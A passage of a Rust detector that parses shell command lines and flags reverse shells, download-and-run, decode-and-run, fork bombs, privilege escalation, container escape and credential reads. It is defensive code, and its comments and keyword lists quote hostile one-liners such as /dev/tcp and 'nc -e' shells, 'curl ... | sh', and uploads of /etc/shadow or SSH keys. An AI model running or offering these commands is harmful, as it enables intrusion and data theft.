//! Reads a shell command line (from `os.system`, `subprocess`, ...) the way a cautious
//! reviewer would: splits it into pipelines and simple commands, looks through `sudo`,
//! `env` and `sh -c` wrappers, and reports what the commands would do.
//!
//! Called by `calls` with the folded command text; unknown parts are `UNKNOWN_PART`.

use super::paths::{
    is_partial_address, is_raw_device, is_root_capability, lifts_confinement, mentions_escape,
    mentions_mining, mount_exposes_host, normalize,
};
use super::value::UNKNOWN_PART;

mod functions;
mod kill;

/// What a command line does, as far as the rules care.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct CommandFacts {
    pub privilege: bool,
    /// Starts an interactive shell (`sh -i`, bare `bash`).
    pub spawns_shell: bool,
    /// A complete reverse shell on its own (`/dev/tcp/...`, `nc -e`).
    pub reverse_shell: bool,
    pub destructive: bool,
    pub system_write: bool,
    pub persistence: bool,
    pub escape: bool,
    pub kills_others: bool,
    pub mining: bool,
    pub setid_bits: bool,
    /// Plants a way to root: setuid on a shell, a sudoers or account-database write,
    /// a user added to an admin group, capabilities given to an interpreter.
    pub privilege_escalation: bool,
    /// Files made setuid or given root's capabilities (`chmod 4755 F`, `setcap
    /// cap_setuid+ep F`), files given to root (`chown root F`), and files copied (from,
    /// to): a setuid copy of a shell, or a root-owned setuid file, is a way back to root.
    pub setuid_files: Vec<String>,
    pub root_owned: Vec<String>,
    pub copies: Vec<(String, String)>,
    pub secret_read: bool,
    /// Names a sensitive system file (`cat /etc/passwd`).
    pub system_read: bool,
    pub capabilities: bool,
    pub network: bool,
    /// `curl ... | sh`, `wget -O f ... && ./f` and the like.
    pub fetch_then_run: bool,
    /// `echo ... | base64 -d | sh` and the like.
    pub decode_then_run: bool,
    /// Files the line downloads into (`wget -O f`, `curl -o f`, `curl -O url`).
    pub downloads: Vec<String>,
    /// Python code given inline (`python3 -c CODE`), to be analysed as Python.
    pub python_sources: Vec<String>,
    /// An interpreter that reads its program from standard input (`python3 -`, `bash`).
    pub runs_stdin: bool,
    /// Defines a shell function that runs itself twice, or in a pipe or the background
    /// (`:(){ :|:& };:`).
    pub fork_bomb: bool,
    /// Leaves a command running in the background (`sleep 60 &`): the shell returns
    /// before it ends.
    pub starts_in_background: bool,
    /// Makes a second account with uid 0 (`useradd -o -u 0`).
    pub uid_zero: bool,
    /// Sweeps a network: a port scanner, or a probe of addresses computed at run time
    /// (`ping -c1 10.0.0.$i`).
    pub scans: bool,
}

/// How deep `sh -c "sh -c ..."` is followed.
const MAX_SHELL_NESTING: u32 = 4;

pub fn analyse(line: &str) -> CommandFacts {
    let mut facts = CommandFacts::default();
    analyse_into(line, 0, &mut facts);
    facts
}

fn analyse_into(line: &str, depth: u32, facts: &mut CommandFacts) {
    if depth > MAX_SHELL_NESTING {
        return;
    }
    facts.reverse_shell |= line.contains("/dev/tcp/") || line.contains("/dev/udp/");
    facts.mining |= mentions_mining(line);
    facts.fork_bomb |= functions::defines_fork_bomb(line);
    let pipelines = split_pipelines(line);
    let own_pids = kill::own_pid_variables(&pipelines);
    for pipeline in pipelines {
        facts.starts_in_background |=
            pipeline.background && pipeline.commands.iter().any(|c| !c.is_empty());
        let mut fetched = false;
        let mut decoded = false;
        let mut shell_in_pipe = false;
        let mut network_in_pipe = false;
        for command in pipeline.commands {
            let simple = Simple::new(&command);
            simple.check(depth, &own_pids, facts);
            if fetched && simple.runs_code() || simple.runs_one_of(&facts.downloads) {
                facts.fetch_then_run = true;
            }
            facts.decode_then_run |= decoded && simple.runs_code();
            fetched |= simple.fetches();
            decoded |= simple.decodes();
            shell_in_pipe |= simple.spawns_shell();
            network_in_pipe |= simple.is_network_relay();
            facts.downloads.extend(simple.download_targets());
        }
        // `cat f | sh -i 2>&1 | nc host port > f`: a shell fed from and to the network.
        facts.reverse_shell |= shell_in_pipe && network_in_pipe;
    }
}

/// Whether some command of `line` runs one of `downloads` (as the program itself, or as
/// the script of an interpreter or `source`), or runs a program only known at run time.
/// Unpacking or inspecting a download (`unzip`, `tar`, `file`, `wc`) runs nothing.
/// How many leading words of an argv say what code runs; the words after them are data
/// to it (a file name or a revision from the network is no code). One for a program that
/// takes its arguments as data (`convert`, `git`); two for a shell or interpreter given a
/// script file (`python3 worker.py`, `bash deploy.sh`); every word for a program named at
/// run time, a wrapper or privilege tool, a tool that runs commands it is given
/// (`find -exec`, `sed e`, `awk`, `tar --checkpoint-action`), or an interpreter given its
/// code inline or on stdin.
pub fn code_words(words: &[Option<&str>]) -> usize {
    // Code given inline (`-c`, `-e`, `eval`, `-ex`) may be in any word, whatever runs it.
    const INLINE_CODE: &[&str] = &["-c", "-e", "-E", "-r", "-ex", "eval", "--eval", "-exec"];
    if words
        .iter()
        .any(|w| w.is_some_and(|w| INLINE_CODE.contains(&w)))
    {
        return usize::MAX;
    }
    let mut words = words.iter().copied();
    const RUNS_ARGUMENTS: &[&str] = &[
        "awk",
        "gawk",
        "mawk",
        "sed",
        "find",
        "tar",
        "flock",
        "chrt",
        "taskset",
        "setpriv",
        "systemd-run",
        "script",
        "tmux",
        "screen",
        "watch",
        "parallel",
        "expect",
        "gdb",
        "pip",
        "pip3",
    ];
    let all = usize::MAX;
    let Some(Some(program)) = words.next() else {
        return all;
    };
    let name = program.rsplit('/').next().unwrap_or(program);
    let runs_arguments = [WRAPPERS, PRIVILEGE, RUNS_ARGUMENTS]
        .iter()
        .any(|list| list.contains(&name));
    if name.is_empty() || name.contains(UNKNOWN_PART) || runs_arguments {
        return all;
    }
    if !SHELLS.contains(&name) && !is_interpreter(name) {
        return 1;
    }
    // `python3 worker.py ...`: a script file (known, not an option, not `-`).
    match words.next() {
        Some(Some(script)) if !script.starts_with('-') && !script.contains(UNKNOWN_PART) => 2,
        _ => all,
    }
}

/// Interpreters of a language other than the shell's.
fn is_interpreter(name: &str) -> bool {
    const INTERPRETERS: &[&str] = &[
        "perl",
        "ruby",
        "node",
        "nodejs",
        "php",
        "lua",
        "tclsh",
        "pwsh",
        "powershell",
        "osascript",
        "Rscript",
        "R",
        "deno",
        "bun",
        "ipython",
        "jshell",
    ];
    name.starts_with("python") || name.starts_with("pypy") || INTERPRETERS.contains(&name)
}

pub fn runs_downloaded(line: &str, downloads: &[String]) -> (bool, bool) {
    let (mut named, mut unknown) = (false, false);
    for pipeline in split_pipelines(line) {
        for command in pipeline.commands {
            let simple = Simple::new(&command);
            named |= simple.runs_one_of(downloads) && simple.name != "chmod";
            unknown |= simple.name.is_empty() && !command.is_empty()
                || simple.name.contains(UNKNOWN_PART)
                || simple.runs_code() && simple.script().is_some_and(|o| o.contains(UNKNOWN_PART));
        }
    }
    (named, unknown)
}

/// A URL or VCS reference (`git+https://...`) whose host is neither PyPI nor one of the
/// code hosts packages are commonly installed from.
fn from_unknown_host(source: &str) -> bool {
    const KNOWN_HOSTS: &[&str] = &[
        "pypi.org",
        "files.pythonhosted.org",
        "download.pytorch.org",
        "github.com",
        "gitlab.com",
        "bitbucket.org",
        "huggingface.co",
    ];
    let source = source
        .split_once('+')
        .map_or(source, |(vcs, rest)| match vcs {
            "git" | "hg" | "svn" | "bzr" => rest,
            _ => source,
        });
    let Some((scheme, rest)) = source.split_once("://") else {
        return false;
    };
    let host = rest.split(['/', ':', '?', '#']).next().unwrap_or("");
    let host = host.rsplit_once('@').map_or(host, |(_, h)| h);
    matches!(scheme, "http" | "https" | "ftp" | "ssh")
        && !host.is_empty()
        && !KNOWN_HOSTS
            .iter()
            .any(|k| host == *k || host.ends_with(&format!(".{k}")))
}

/// A word of a command line, or a redirection target (`> file`).
#[derive(Debug, Clone, PartialEq, Eq)]
enum Token {
    Word(String),
    WriteTo(String),
    ReadFrom(String),
}

/// One pipeline: its commands, and whether it runs in the background (ends in `&`).
struct Pipeline {
    commands: Vec<Vec<Token>>,
    background: bool,
}

impl Pipeline {
    fn new() -> Pipeline {
        Pipeline {
            commands: vec![Vec::new()],
            background: false,
        }
    }
}

/// Splits on `;`, `&`, `&&`, `||`, newlines and `$(`/backticks into pipelines, and each
/// pipeline on `|` into commands of tokens. Quotes group words and are removed.
fn split_pipelines(line: &str) -> Vec<Pipeline> {
    let mut pipelines = vec![Pipeline::new()];
    let mut word = String::new();
    let mut quote: Option<char> = None;
    let mut redirect: Option<bool> = None; // Some(true) for `>`, Some(false) for `<`
    let mut chars = line.chars().peekable();
    while let Some(c) = chars.next() {
        if let Some(q) = quote {
            if c == q {
                quote = None;
            } else {
                word.push(c);
            }
            continue;
        }
        match c {
            '\'' | '"' => quote = Some(c),
            '\\' => word.extend(chars.next()),
            ' ' | '\t' => flush(&mut word, &mut redirect, &mut pipelines),
            '>' | '<' => {
                if chars.peek() == Some(&'&') {
                    chars.next(); // `2>&1`: duplicates a descriptor, names no file
                    word.clear();
                    while chars
                        .peek()
                        .is_some_and(|d| d.is_ascii_digit() || *d == '-')
                    {
                        chars.next();
                    }
                    continue;
                }
                if !word.chars().all(|d| d.is_ascii_digit() || d == '&') {
                    flush(&mut word, &mut redirect, &mut pipelines);
                }
                word.clear();
                redirect = Some(c == '>');
                if chars.peek() == Some(&'>') {
                    chars.next();
                }
            }
            '|' | ';' | '&' | '\n' | '`' | '(' | ')' | '$'
                if c != '$' || chars.peek() == Some(&'(') =>
            {
                flush(&mut word, &mut redirect, &mut pipelines);
                let pipe = c == '|' && chars.peek() != Some(&'|');
                let background = c == '&' && !matches!(chars.peek(), Some('&' | '>'));
                if c == '|' || c == '&' {
                    chars.next_if_eq(&c);
                }
                if c == '$' {
                    chars.next();
                }
                match pipelines.last_mut() {
                    Some(pipeline) if pipe => pipeline.commands.push(Vec::new()),
                    Some(pipeline) => {
                        pipeline.background = background;
                        pipelines.push(Pipeline::new());
                    }
                    None => {}
                }
            }
            _ => word.push(c),
        }
    }
    flush(&mut word, &mut redirect, &mut pipelines);
    pipelines
}

fn flush(word: &mut String, redirect: &mut Option<bool>, pipelines: &mut [Pipeline]) {
    if word.is_empty() {
        return;
    }
    let text = std::mem::take(word);
    let token = match redirect.take() {
        Some(true) => Token::WriteTo(text),
        Some(false) => Token::ReadFrom(text),
        None => Token::Word(text),
    };
    if let Some(command) = pipelines.last_mut().and_then(|p| p.commands.last_mut()) {
        command.push(token);
    }
}

/// One simple command with wrappers (`sudo`, `env X=1`, `nohup`) peeled off.
struct Simple<'t> {
    name: String,
    args: Vec<&'t str>,
    writes: Vec<&'t str>,
    reads: Vec<&'t str>,
    privileged: bool,
    /// The command string of `su -c "..."`.
    inner: Option<&'t str>,
}

/// Skips `sudo -u x`, `env A=1`, `timeout 5`, `nohup` ...; returns where the real command
/// starts, whether a privilege wrapper was seen, and `su -c`'s command string.
fn peel_wrappers<'t>(words: &[&'t str]) -> (usize, bool, Option<&'t str>) {
    let mut privileged = false;
    let mut i = 0;
    while let Some(word) = words.get(i) {
        let name = basename(word);
        let is_assignment = word.contains('=') && !word.starts_with('-');
        let is_number = word.starts_with(|c: char| c.is_ascii_digit())
            && word
                .bytes()
                .all(|b| b.is_ascii_digit() || b"smhd.".contains(&b));
        if name == "su" || name == "runuser" {
            let rest = &words[i + 1..];
            let inner = rest.windows(2).find(|p| p[0] == "-c").map(|p| p[1]);
            return (words.len(), true, inner);
        }
        if PRIVILEGE.contains(&name) {
            privileged = true;
        } else if privileged && matches!(*word, "-u" | "-g" | "-p" | "-C" | "-U") {
            i += 1; // the option's value
        } else if !(WRAPPERS.contains(&name) || is_assignment || is_number || word.starts_with('-'))
        {
            break;
        }
        i += 1;
    }
    (i, privileged, None)
}

const SHELLS: &[&str] = &[
    "sh", "bash", "zsh", "dash", "ksh", "ash", "csh", "tcsh", "fish", "busybox",
];
/// Commands that run the command after them (`busybox nc ...` is `nc ...`).
const WRAPPERS: &[&str] = &[
    "nohup", "exec", "env", "timeout", "nice", "setsid", "stdbuf", "xargs", "command", "builtin",
    "time", "ionice", "busybox", "toybox",
];
const PRIVILEGE: &[&str] = &["sudo", "su", "doas", "pkexec", "runuser"];

impl<'t> Simple<'t> {
    fn new(tokens: &'t [Token]) -> Simple<'t> {
        let mut words = Vec::new();
        let mut writes = Vec::new();
        let mut reads = Vec::new();
        for token in tokens {
            match token {
                Token::Word(w) => words.push(w.as_str()),
                Token::WriteTo(w) => writes.push(w.as_str()),
                Token::ReadFrom(w) => reads.push(w.as_str()),
            }
        }
        let (start, privileged, inner) = peel_wrappers(&words);
        let (name, args) = match words.get(start..).and_then(|r| r.split_first()) {
            Some((first, args)) => (basename(first).to_string(), args.to_vec()),
            // `su - root` without `-c`: the user's shell, reading commands from stdin.
            None if privileged && inner.is_none() && words.iter().any(|w| basename(w) == "su") => {
                ("sh".to_string(), vec!["-s"])
            }
            None => (String::new(), Vec::new()),
        };
        Simple {
            name,
            args,
            writes,
            reads,
            privileged,
            inner,
        }
    }

    fn has_flag(&self, flag: &str) -> bool {
        self.args.contains(&flag)
    }

    /// `-O`, also inside grouped short options (`-sSO`).
    fn has_short_flag(&self, flag: char) -> bool {
        self.args
            .iter()
            .any(|a| a.starts_with('-') && !a.starts_with("--") && a[1..].contains(flag))
    }

    /// Non-option arguments.
    fn operands(&self) -> impl Iterator<Item = &'t str> + '_ {
        self.args.iter().copied().filter(|a| !a.starts_with('-'))
    }

    /// `pip ...`, `python3 -m pip ...`, `uv pip ...`.
    fn runs_pip(&self) -> bool {
        let name = self.name.as_str();
        name.starts_with("pip")
            || name.starts_with("python") && self.args.windows(2).any(|w| w == ["-m", "pip"])
            || name == "uv" && self.operands().next() == Some("pip")
    }

    /// `pip install URL`, `pip install git+URL`, `pkg @ URL`: one package's source fetched
    /// from a host other than PyPI and the well-known code hosts, whose setup code nobody
    /// assessed. A package index (`--index-url`) is not: operators run their own and
    /// allow it in the network policy, and what it serves is what they publish.
    fn installs_from_elsewhere(&self) -> bool {
        const VALUE_FLAGS: &[&str] = &[
            "-i",
            "--index-url",
            "--extra-index-url",
            "-f",
            "--find-links",
            "--trusted-host",
        ];
        let installs = self.operands().any(|a| a == "install");
        let index_values: Vec<&str> = self
            .args
            .windows(2)
            .filter(|w| VALUE_FLAGS.contains(&w[0]))
            .map(|w| w[1])
            .collect();
        // `name @ URL` names the package's own source.
        let source = |a: &'t str| a.rsplit_once(" @ ").map_or(a, |(_, url)| url.trim());
        let fetched = self
            .args
            .iter()
            .filter(|a| !a.starts_with('-') && !index_values.contains(a))
            .any(|a| from_unknown_host(source(a)));
        installs && fetched
    }

    fn fetches(&self) -> bool {
        matches!(self.name.as_str(), "curl" | "wget" | "fetch")
    }

    /// Decoders and decompressors that write their result to stdout.
    fn decodes(&self) -> bool {
        match self.name.as_str() {
            "base64" | "base32" | "basenc" => self.has_short_flag('d') || self.has_flag("--decode"),
            "xxd" => self.has_short_flag('r'),
            "openssl" => self.has_flag("-d") || self.has_flag("-base64"),
            "gunzip" | "zcat" | "bzcat" | "xzcat" | "uudecode" | "rev" => true,
            "gzip" | "bzip2" | "xz" => self.has_short_flag('d'),
            _ => false,
        }
    }

    /// The value after `flag` (`-o file`), or glued to a long flag (`--output=file`).
    fn option_value(&self, short: &str, long: &str) -> Option<&'t str> {
        let mut args = self.args.iter();
        while let Some(arg) = args.next() {
            let glued_short = arg.len() > 1 && arg.starts_with('-') && !arg.starts_with("--");
            if *arg == short || *arg == long || (glued_short && arg.ends_with(&short[1..])) {
                return args.next().copied();
            }
            if let Some(value) = arg.strip_prefix(long).and_then(|r| r.strip_prefix('=')) {
                return Some(value);
            }
        }
        None
    }

    /// Where `wget`/`curl` save what they fetch.
    fn download_targets(&self) -> Vec<String> {
        let url_name = || {
            self.operands()
                .find(|a| a.contains("://"))
                .and_then(|url| url.rsplit('/').next())
                .filter(|name| !name.is_empty())
                .map(str::to_string)
        };
        let target = match self.name.as_str() {
            "wget" => self
                .option_value("-O", "--output-document")
                .map(str::to_string)
                .or_else(url_name),
            "curl" if self.has_short_flag('O') || self.has_flag("--remote-name") => url_name(),
            "curl" => self.option_value("-o", "--output").map(str::to_string),
            _ => None,
        };
        target.into_iter().filter(|t| t != "-").collect()
    }

    /// Runs, or makes executable, a file fetched earlier in the line: the program itself,
    /// a file an interpreter, `chmod` or `source` is given. A download `dir/<?>` stands
    /// for every file unpacked below `dir`: running one as the program or as an
    /// interpreter's script (its first operand; later ones are the script's arguments,
    /// such as the unpacked data it reads) runs it.
    fn runs_one_of(&self, downloads: &[String]) -> bool {
        let named = |word: &str| downloads.iter().any(|d| basename(d) == basename(word));
        let unpacked = |word: &str| {
            downloads.iter().any(|d| {
                d.strip_suffix(UNKNOWN_PART)
                    .is_some_and(|dir| dir.ends_with('/') && word.starts_with(dir))
            })
        };
        if downloads.is_empty() {
            return false;
        }
        // An interpreter runs its first operand (the rest are the script's arguments);
        // `chmod` and `source` act on every one.
        let loads = matches!(self.name.as_str(), "chmod" | "source") && self.operands().any(named);
        let script = self.runs_code() && self.script().is_some_and(|o| named(o) || unpacked(o));
        named(&self.name) || unpacked(&self.name) || loads || script
    }

    /// The script an interpreter runs: its first operand that is no option's value
    /// (`python3 -W ignore x.py` runs `x.py`).
    fn script(&self) -> Option<&'t str> {
        const TAKE_VALUES: &[&str] = &["-W", "-X", "-o", "-O", "--rcfile", "--init-file"];
        let mut args = self.args.iter().copied();
        while let Some(arg) = args.next() {
            if TAKE_VALUES.contains(&arg) {
                args.next();
            } else if !arg.starts_with('-') {
                return Some(arg);
            }
        }
        None
    }

    /// An interpreter given no program but its standard input: no script, `-` first
    /// (`python3 - ARGS`), or a shell's `-s` (`bash -s -- --yes`: what follows are the
    /// positional parameters of the commands it reads).
    fn reads_code_from_stdin(&self) -> bool {
        const INLINE_CODE: &[&str] = &["-c", "-e", "-r", "-m"];
        if !self.runs_code() || INLINE_CODE.iter().any(|flag| self.has_flag(flag)) {
            return false;
        }
        let shell_reads_stdin = SHELLS.contains(&self.name.as_str()) && self.has_short_flag('s');
        // Options that take the next word as their value (`bash -o pipefail`, `python3 -X
        // utf8`): that word is no script.
        const TAKE_VALUE: &[&str] = &[
            "-o",
            "+o",
            "-O",
            "+O",
            "-W",
            "-X",
            "--rcfile",
            "--init-file",
        ];
        let mut words = self.args.iter();
        let mut first_operand = None;
        while let Some(word) = words.next() {
            if TAKE_VALUE.contains(word) {
                words.next();
            } else if *word == "-" || !word.starts_with(['-', '+']) {
                first_operand = Some(word);
                break;
            }
        }
        shell_reads_stdin || first_operand.is_none_or(|first| *first == "-")
    }

    /// An interactive shell, or one reading its commands from stdin.
    fn spawns_shell(&self) -> bool {
        SHELLS.contains(&self.name.as_str())
            && !self.has_flag("-c")
            && (self.has_flag("-i") || self.operands().next().is_none())
    }

    /// Tools that move a byte stream to or from the network.
    fn is_network_relay(&self) -> bool {
        matches!(
            self.name.as_str(),
            "nc" | "ncat" | "netcat" | "telnet" | "socat" | "openssl"
        )
    }

    fn runs_code(&self) -> bool {
        SHELLS.contains(&self.name.as_str()) || is_interpreter(&self.name)
    }

    /// `own_pids`: the line's variables that hold one of its own pids (`pid=$!`).
    fn check(&self, depth: u32, own_pids: &[String], facts: &mut CommandFacts) {
        facts.privilege |= self.privileged;
        facts.runs_stdin |= self.reads_code_from_stdin();
        if let Some(inner) = self.inner {
            analyse_into(inner, depth + 1, facts);
        }
        if self.only_describes_itself() {
            return;
        }
        self.check_files(facts);
        self.check_by_name(depth, own_pids, facts);
        self.check_inline_code(facts);
    }

    /// A container engine asked for what reaches past its own containers: another host's
    /// engine, a shell or a copy inside a running container (`exec`, `cp`, `attach`), or
    /// a container given the host (`--privileged`, `--pid=host`, `-v /:/host`). Listing,
    /// building, pulling, pushing and running an ordinary container do not.
    fn reaches_past_containers(&self) -> bool {
        const OBJECTS: &[&str] = &["container", "image", "system", "volume", "network"];
        let elsewhere = ["-H", "--host", "--context", "-c"]
            .iter()
            .any(|flag| self.has_flag(flag))
            || self.args.iter().any(|a| a.starts_with("--host="));
        let mut operands = self.operands();
        let verb = match operands.next() {
            Some(object) if OBJECTS.contains(&object) => operands.next(),
            verb => verb,
        };
        elsewhere
            || match verb {
                Some("run" | "create") => self.gives_container_the_host(),
                Some(verb) => matches!(verb, "exec" | "cp" | "attach"),
                None => false,
            }
    }

    /// `docker run` options that give the container the host: privileges, the host's
    /// namespaces, root's capabilities, its disks, unconfined security, another
    /// container's volumes, or a mount of a host path that exposes it.
    fn gives_container_the_host(&self) -> bool {
        const NAMESPACES: &[&str] = &[
            "--pid",
            "--net",
            "--network",
            "--ipc",
            "--uts",
            "--userns",
            "--cgroupns",
        ];
        let mut args = self.args.iter().peekable();
        while let Some(arg) = args.next() {
            let (flag, glued) = match arg.split_once('=') {
                Some((flag, value)) => (flag, Some(value)),
                // `-v/:/host`: the value glued to the short option.
                None if arg.starts_with("-v") && arg.len() > 2 => ("-v", Some(&arg[2..])),
                None => (*arg, None),
            };
            let mut value = || glued.or_else(|| args.peek().copied().copied());
            let grants = match flag {
                "--privileged" => glued != Some("false"),
                "--volumes-from" => true,
                "--cap-add" => value().is_some_and(is_root_capability),
                "--device" => {
                    value().is_some_and(|d| is_raw_device(d.split(':').next().unwrap_or(d)))
                }
                "--security-opt" => value().is_some_and(lifts_confinement),
                "-v" | "--volume" | "--mount" => value().is_some_and(mount_exposes_host),
                _ if NAMESPACES.contains(&flag) => value() == Some("host"),
                _ => false,
            };
            if grants {
                return true;
            }
        }
        false
    }

    /// `docker --version`, `mount --help`: the program prints its version or usage and
    /// does nothing else.
    fn only_describes_itself(&self) -> bool {
        !self.args.is_empty()
            && self.inner.is_none()
            && self.writes.is_empty()
            && (self.args.iter()).all(|a| matches!(*a, "--version" | "-version" | "--help"))
    }

    /// `python3 -c CODE` is handed back as Python; `perl -e`, `ruby -e`, `php -r` and
    /// `node -e` code that opens a socket and starts a shell is a reverse shell.
    fn check_inline_code(&self, facts: &mut CommandFacts) {
        let name = self.name.as_str();
        if name.starts_with("python") {
            if let Some(code) = self.option_value("-c", "--command") {
                facts.python_sources.push(code.to_string());
            }
            return;
        }
        let flag = match name {
            "perl" | "ruby" | "node" | "lua" => "-e",
            "php" => "-r",
            _ => return,
        };
        if let Some(code) = self.option_value(flag, flag) {
            facts.reverse_shell |= foreign_code_is_reverse_shell(code);
            facts.network |= code.to_ascii_lowercase().contains("socket");
        }
    }

    /// Redirections and path-like words, whatever the command.
    fn check_files(&self, facts: &mut CommandFacts) {
        for target in &self.writes {
            let path = normalize(target);
            facts.privilege_escalation |= path.is_account_database();
            facts.persistence |= path.is_persistence();
            facts.system_write |= path.is_protected();
        }
        for word in self.args.iter().chain(&self.reads) {
            // `-F file=@/etc/shadow`, `--data-binary @~/.ssh/id_rsa`: the file after `@`/`=`.
            let attached = word.rsplit(['@', '=']).next().unwrap_or(word);
            facts.secret_read |= normalize(word).is_secret() || normalize(attached).is_secret();
            facts.system_read |= normalize(word).is_system_recon();
            facts.escape |= mentions_escape(word);
        }
    }

    fn check_by_name(&self, depth: u32, own_pids: &[String], facts: &mut CommandFacts) {
        let name = self.name.as_str();
        match name {
            _ if SHELLS.contains(&name) => self.check_shell(depth, facts),
            "rm" | "rmdir" | "unlink" | "shred" | "wipefs" => self.check_delete(facts),
            "dd" => self.check_dd(facts),
            "find" => self.check_find(facts),
            _ if name.starts_with("mkfs") => facts.destructive = true,
            "install" => self.check_install(facts),
            "cp" | "mv" | "ln" | "touch" | "tee" | "truncate" | "chown" | "chgrp" | "sed"
            | "mkdir" | "chattr" => {
                self.check_writes(facts);
                self.note_owner_and_copies(facts);
            }
            "chmod" => {
                self.check_writes(facts);
                let setid = self.args.iter().any(|a| is_setid_mode(a));
                facts.setid_bits |= setid;
                if self.args.iter().any(|a| is_setuid_mode(a)) {
                    let files = self.operands().filter(|a| !is_setid_mode(a));
                    facts.setuid_files.extend(files.map(str::to_string));
                }
            }
            // Membership of these groups is root by another name.
            "usermod" | "gpasswd" | "adduser" | "useradd" => {
                facts.uid_zero |= self.makes_uid_zero();
                facts.privilege_escalation |= self.joins_admin_group() || facts.uid_zero;
                facts.system_write = true;
            }
            "chpasswd" | "visudo" => facts.privilege_escalation = true,
            "crontab" => facts.persistence |= !self.has_flag("-l"),
            "systemctl" => {
                facts.persistence |= self.operands().any(|a| a == "enable" || a == "link");
                // Stopping or killing a unit stops processes this line did not start.
                facts.kills_others |=
                    !self.has_flag("--user") && self.operands().any(|a| a == "kill" || a == "stop");
            }
            "service" => facts.kills_others |= self.operands().nth(1) == Some("stop"),
            // `git config --global core.hooksPath DIR`: every repository of the user then
            // runs the scripts there on each commit or checkout (and a global
            // `core.fsmonitor` command on each status).
            "git" => {
                let global = self.has_flag("--global") || self.has_flag("--system");
                let runs_command = self.operands().any(|a| {
                    let key = a.to_ascii_lowercase();
                    matches!(key.as_str(), "core.hookspath" | "core.fsmonitor")
                });
                facts.persistence |=
                    global && self.operands().next() == Some("config") && runs_command;
            }
            "nsenter" | "mount" | "umount" | "insmod" | "modprobe" | "rmmod" | "unshare"
            | "chroot" | "ctr" | "runc" => facts.escape = true,
            // A way out when it reaches past its containers (see there).
            "docker" | "podman" | "nerdctl" => facts.escape |= self.reaches_past_containers(),
            // Who logged in, from where, and who failed to.
            "last" | "lastb" | "lastlog" | "faillog" => facts.system_read = true,
            // The whole database (`getent passwd`); one entry by name is a lookup.
            "getent" if self.operands().count() == 1 => {
                facts.system_read |= matches!(self.operands().next(), Some("passwd" | "group"));
                facts.secret_read |= matches!(self.operands().next(), Some("shadow" | "gshadow"));
            }
            "setcap" | "capsh" => {
                facts.capabilities = true;
                // `setcap cap_setuid+ep F`: F may make itself root, as a setuid file can.
                let mut operands = self.operands();
                let caps = operands.next().unwrap_or_default().to_ascii_lowercase();
                let root_caps = ["cap_setuid", "cap_sys_admin", "cap_dac_override", "all"]
                    .iter()
                    .any(|c| caps.contains(c));
                if name == "setcap" && root_caps {
                    facts.setuid_files.extend(operands.map(str::to_string));
                }
            }
            // Password stores asked for what they hold: macOS's keychain (`-w` prints
            // the password) and the Secret Service of Linux desktops.
            "security" => {
                let asks = self
                    .operands()
                    .any(|a| matches!(a, "find-generic-password" | "find-internet-password"));
                facts.secret_read |= asks && (self.has_flag("-w") || self.has_flag("-g"))
                    || self.operands().any(|a| a == "dump-keychain");
            }
            "secret-tool" => {
                facts.secret_read |= matches!(self.operands().next(), Some("lookup" | "search"));
            }
            "kill" => facts.kills_others |= kill::signals_others(&self.args, own_pids),
            "pkill" | "killall" | "killall5" | "skill" => {
                facts.kills_others |= self.operands().any(|a| a != "$$");
            }
            "nc" | "ncat" | "netcat" => {
                facts.network = true;
                facts.reverse_shell |= self.has_flag("-e") || self.has_flag("-c");
            }
            "socat" => {
                facts.network = true;
                facts.reverse_shell |= self.args.iter().any(|a| {
                    let lower = a.to_ascii_lowercase();
                    lower.contains("exec:") || lower.contains("system:")
                });
            }
            // `ssh -R 2222:localhost:22 relay`: the far end reaches into this machine.
            "ssh" => {
                facts.network = true;
                facts.reverse_shell |= self.args.iter().any(|a| a.starts_with("-R"));
            }
            "curl" | "wget" | "scp" | "ftp" | "telnet" | "fetch" => facts.network = true,
            "nmap" | "masscan" | "zmap" | "rustscan" | "unicornscan" => {
                facts.network = true;
                facts.scans = true;
            }
            "ping" | "fping" | "arping" | "hping3" => {
                facts.network = true;
                facts.scans |= self.has_flag("-g") || self.operands().any(is_partial_address);
            }
            _ if self.runs_pip() => {
                // `pip list`, `pip show` read what is installed; these fetch.
                facts.network |= self
                    .operands()
                    .any(|a| matches!(a, "install" | "download" | "wheel" | "index"));
                // Installing runs the package's build and install code.
                facts.fetch_then_run |= self.installs_from_elsewhere();
            }
            _ => {}
        }
        facts.mining |= mentions_mining(name);
    }

    fn check_shell(&self, depth: u32, facts: &mut CommandFacts) {
        if self.check_command_argument(depth, facts) {
            return;
        }
        let has_script = self.operands().next().is_some();
        facts.spawns_shell |= self.has_flag("-i") || !has_script;
    }

    /// Follows `-c "command"`; returns whether there was one.
    fn check_command_argument(&self, depth: u32, facts: &mut CommandFacts) -> bool {
        let position = self.args.iter().position(|a| *a == "-c");
        match position.and_then(|p| self.args.get(p + 1)) {
            Some(inner) => {
                analyse_into(inner, depth + 1, facts);
                true
            }
            None => false,
        }
    }

    fn check_delete(&self, facts: &mut CommandFacts) {
        facts.destructive |= self.has_flag("--no-preserve-root");
        for operand in self.operands() {
            note_deleted(operand, facts);
        }
    }

    /// `find / -delete`, `find ~ -exec rm {} +`: the start paths are deleted.
    fn check_find(&self, facts: &mut CommandFacts) {
        let deletes = self.has_flag("-delete")
            || self.args.windows(2).any(|w| {
                matches!(w[0], "-exec" | "-execdir" | "-ok")
                    && matches!(basename(w[1]), "rm" | "shred" | "unlink")
            });
        // Only files matching a name or path pattern (`-name '*.pyc'`) is a clean-up.
        let filtered = self.args.windows(2).any(|w| {
            matches!(
                w[0],
                "-name" | "-iname" | "-path" | "-ipath" | "-regex" | "-iregex"
            ) && !matches!(w[1], "*" | "*.*")
        });
        if !deletes || filtered {
            return;
        }
        let starts = self
            .args
            .iter()
            .take_while(|a| !a.starts_with(['-', '(', '!']));
        for start in starts {
            note_deleted(start, facts);
        }
    }

    fn check_dd(&self, facts: &mut CommandFacts) {
        for target in self.args.iter().filter_map(|a| a.strip_prefix("of=")) {
            let path = normalize(target);
            let device = target.starts_with("/dev/") && !path.is_escape() && target != "/dev/null";
            facts.destructive |= device;
            facts.system_write |= path.is_protected();
            facts.persistence |= path.is_persistence();
        }
    }

    /// `usermod -aG sudo,docker u`, `gpasswd -a u wheel`, `adduser u sudo`: a user added
    /// to a group that is root by another name.
    fn joins_admin_group(&self) -> bool {
        const ADMIN: &[&str] = &["sudo", "wheel", "admin", "root", "docker", "lxd", "disk"];
        let admin = |list: &str| list.split(',').any(|g| ADMIN.contains(&g));
        let operands: Vec<&str> = self.operands().collect();
        match self.name.as_str() {
            "gpasswd" => {
